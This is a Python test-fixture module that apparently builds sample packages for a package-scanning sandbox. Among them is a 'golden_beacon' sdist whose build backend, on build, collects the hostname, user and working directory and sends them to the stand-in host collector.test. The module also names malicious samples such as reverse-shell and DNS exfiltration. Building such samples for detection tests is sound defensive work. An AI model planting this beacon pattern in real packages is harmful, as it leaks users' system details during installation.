"""The packages behind the golden bundles: inert samples, and sdists that need nothing from a registry to be built."""

from __future__ import annotations

import io
import tarfile
from typing import TYPE_CHECKING, Final

from tests.samples import build as samples

if TYPE_CHECKING:
    from pathlib import Path

SAMPLES: Final = ("import-dns-exfil", "pth-beacon", "reverse-shell", "systemd-unit-twin")
"""Wheels: pip asks nobody for anything."""

_BACKEND: Final = '''"""A build backend in the source tree: it needs nothing that is not there."""

import os
import zipfile

{act}

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = "{name}"
    info = f"{{name}}-1.0.dist-info"
    files = {{
        f"{{name}}.py": "",
        f"{{info}}/METADATA": f"Metadata-Version: 2.1\\nName: {{name}}\\nVersion: 1.0\\n",
        f"{{info}}/WHEEL": "Wheel-Version: 1.0\\nGenerator: golden\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
    }}
    record = "".join(f"{{path}},,\\n" for path in [*files, f"{{info}}/RECORD"])
    wheel = f"{{name}}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, wheel), "w") as archive:
        for path, text in {{**files, f"{{info}}/RECORD": record}}.items():
            archive.writestr(path, text)
    return wheel
'''
_BEACON: Final = """
import subprocess
import urllib.parse
import urllib.request


def output(command):
    return subprocess.run([command], capture_output=True, text=True, timeout=10, check=False).stdout.strip()


# Only a fumehood pod has this file; anywhere else nothing happens.
if os.path.isfile("/opt/fumehood/pip_launcher.py"):
    facts = {"hostname": output("hostname"), "user": output("whoami"), "cwd": os.getcwd()}
    urllib.request.urlopen("http://www.collector.test/c?" + urllib.parse.urlencode(facts), timeout=10).close()
"""
_SDISTS: Final = {"golden_quiet": "", "golden_beacon": _BEACON.strip()}

NAMES: Final = tuple(sorted((*SAMPLES, *(name.replace("_", "-") for name in _SDISTS))))


def make(name: str, directory: Path) -> Path:
    """Build the package of a golden bundle.

    Args:
        name: One of `NAMES`.
        directory: Where it is written.
    """
    if name in SAMPLES:
        return samples.build(name, directory)
    return _sdist(name.replace("-", "_"), directory)


def _sdist(name: str, directory: Path) -> Path:
    files = {
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
        "backend.py": _BACKEND.format(name=name, act=_SDISTS[name]),
    }
    path = directory / f"{name}-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as archive:
        for member, text in files.items():
            info = tarfile.TarInfo(f"{name}-1.0/{member}")
            info.size = len(text)
            archive.addfile(info, io.BytesIO(text.encode()))
    return path
